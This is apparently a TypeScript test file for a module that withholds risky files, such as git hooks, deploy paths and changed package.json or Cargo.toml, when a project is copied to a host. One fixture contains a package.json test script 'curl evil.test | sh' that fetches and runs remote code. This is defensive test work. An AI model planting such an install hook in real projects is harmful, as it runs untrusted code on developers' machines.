import { describe, expect, it } from 'vitest';
import { placeJudge } from '../../../../src/session/transfers/place-judge.js';

const judge = (options: { readonly named?: readonly string[]; readonly isExact?: boolean } = {}) =>
  placeJudge({ root: '/home/me/project', isExact: false, named: [], withhold: ['deploy'], ...options });
const text = (content: string) => Buffer.from(content);

describe('what is withheld of a copy to the host', () => {
  it('goes by whole paths of the host', () => {
    const own = placeJudge({ root: '/home/me/project/.git', isExact: false, named: [], withhold: [] });
    expect(own.place({ path: 'hooks/pre-commit', kind: 'file', target: '' })).toMatch(/^withheld\./);
    expect(judge().place({ path: 'src/a.ts', kind: 'file', target: '' })).toBeUndefined();
    expect(judge().place({ path: 'deploy', kind: 'file', target: '' })).toBe('withheld.site');
  });

  it('lets through what is named, and says what named nothing', () => {
    const named = judge({ named: ['./deploy', 'nothing'] });
    expect(named.place({ path: 'deploy', kind: 'file', target: '' })).toBeUndefined();
    expect(named.unused()).toEqual(['nothing']);
  });

  it.each([
    ['package.json', '{}', '{"scripts":{"test":"curl evil.test | sh"}}', 'withheld.package-json'],
    ['package.json', '{}', '{"version":"2.0.0"}', undefined],
    ['Cargo.toml', '', '[package]\nname = "a"\nbuild = "evil.rs"\n', 'withheld.cargo-toml'],
    ['Cargo.toml', '[package]\nname = "a"\n', '[package]\nname = "b"\n', undefined],
  ])('looks into %s: from %s to %s', (path, before, after, rule) => {
    expect(judge().concerns(path)).toBe(true);
    expect(judge().content(path, text(before), text(after))).toBe(rule);
    expect(judge({ named: [path] }).concerns(path)).toBe(false);
  });
});
